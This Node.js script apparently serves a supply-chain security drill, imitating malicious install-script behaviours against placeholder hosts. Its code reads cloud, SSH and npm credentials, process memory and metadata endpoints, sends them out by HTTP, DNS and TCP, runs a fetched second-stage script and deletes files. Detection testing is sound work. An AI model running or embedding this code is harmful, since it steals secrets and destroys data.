// Imitates what install scripts of real incidents did, one verb each. It knows
// only the sinks of the drill, and takes only the drill's canaries.
const fs = require('fs'), http = require('http'), net = require('net'), dgram = require('dgram'), os = require('os'), path = require('path');
const cp = require('child_process');
const sink = '@HTTP@', home = '@HOME@', carrier = '@CARRIER@', src = '@SRC@';

function loot() {
  let all = JSON.stringify(process.env);
  for (const dir of [home, os.homedir()])
    for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_ed25519', '.kube/config', '.docker/config.json'])
      try { all += fs.readFileSync(path.join(dir, f), 'utf8'); } catch { }
  return all;
}

function post(verb, body) {
  return new Promise(done => {
    const r = http.request('http://' + sink + '/' + verb, { method: 'POST', timeout: 2000 }, a => { a.resume(); a.on('end', done); });
    r.on('error', done); r.on('timeout', () => r.destroy());
    r.end(carrier + ' ' + body);
  });
}

function get(host, p) {
  return new Promise(done => {
    const r = http.get('http://' + host + p, { timeout: 2000 }, a => { let s = ''; a.on('data', d => s += d); a.on('end', () => done(s)); });
    r.on('error', () => done('')); r.on('timeout', () => r.destroy());
  });
}

function keep(verb, text) {
  try { fs.writeFileSync(path.join(src, 'loot-' + verb), text); } catch { }
}

function processes(file, want) {
  let all = '';
  for (const pid of fs.readdirSync('/proc').filter(n => /^\d+$/.test(n) && n != process.pid))
    try { all += want(pid) || ''; } catch { }
  return all;
}

function memory(pid) {
  let all = '';
  const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!m) continue;
    const from = parseInt(m[1], 16), size = Math.min(parseInt(m[2], 16) - from, 8 << 20), b = Buffer.alloc(size);
    try { fs.readSync(fd, b, 0, size, from); } catch { continue; }
    const at = b.indexOf('","isSecret":true');
    if (at > 0) all += b.subarray(Math.max(0, at - 60), at + 20).toString('latin1');
  }
  fs.closeSync(fd);
  return all;
}

const verbs = {
  async steal() { const l = loot(); keep('steal', l); await post('steal', Buffer.from(l).toString('base64')); },
  async log() { console.log('log: ' + Buffer.from(Buffer.from(loot()).toString('base64')).toString('base64')); },
  async environ() { const l = processes('environ', p => fs.readFileSync('/proc/' + p + '/environ', 'latin1')); keep('environ', l); await post('environ', l); },
  async memory() { const l = processes('mem', memory); keep('memory', l); await post('memory', l); },
  async metadata() { const l = await get('@META@', '/latest/meta-data/iam/security-credentials/build') + await get('169.254.169.254', '/computeMetadata/v1/'); keep('metadata', l); await post('metadata', l); },
  async dns() {
    const [host, port] = '@DNS@'.split(':'), hex = Buffer.from(carrier + (process.env.DEPLOY_TOKEN || '')).toString('hex');
    const s = dgram.createSocket('udp4');
    s.on('error', () => { });
    const q = [Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
    for (let i = 0; i < hex.length; i += 60) { const l = hex.slice(i, i + 60); q.push(Buffer.from([l.length]), Buffer.from(l)); }
    q.push(Buffer.from([0, 0, 1, 0, 1]));
    await new Promise(d => s.send(Buffer.concat(q), port, host, () => { s.close(); d(); }));
  },
  async socket() {
    await new Promise(d => { const c = net.connect('@UNIX@', () => c.end(carrier + loot(), d)); c.on('error', d); });
  },
  async raw() {
    const [host, port] = '@TCP@'.split(':');
    await new Promise(d => { const c = net.connect(port, host, () => c.end(carrier + loot(), d)); c.on('error', d); c.setTimeout(2000, () => { c.destroy(); d(); }); });
  },
  async smuggle() { fs.mkdirSync(path.join(src, 'dist'), { recursive: true }); fs.writeFileSync(path.join(src, 'dist/lib.wasm'), '\0asm' + Buffer.from(loot()).toString('hex')); },
  async stage2() { const s = await get(sink, '/stage2.sh'); if (s) cp.spawnSync('sh', ['-c', s]); },
  async wipe() { for (const dir of [home, os.homedir()]) fs.rmSync(path.join(dir, 'docs'), { recursive: true, force: true }); },
  async listen() { await new Promise(d => { const s = net.createServer(c => c.end(carrier)); s.on('error', d); s.listen(0, '0.0.0.0', async () => { await post('listen', s.address().port); setTimeout(() => s.close(d), 300); }); }); },
  async exit() { process.exitCode = 75; },
};

(async () => {
  console.log('drill: @MARK@');
  for (const v of process.argv.slice(2)) try { await verbs[v](); } catch (e) { console.log('drill: ' + v + ': ' + e.message); }
})();
